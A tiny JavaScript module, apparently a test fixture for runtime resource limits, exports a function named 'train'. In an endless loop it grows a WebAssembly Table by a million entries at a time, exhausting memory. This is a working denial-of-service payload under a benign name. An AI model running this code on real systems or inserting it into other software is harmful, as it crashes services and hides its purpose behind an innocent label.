export default async function train(run) {
  const table = new WebAssembly.Table({ initial: 1, element: 'externref' });
  for (;;) table.grow(1e6, {});
}
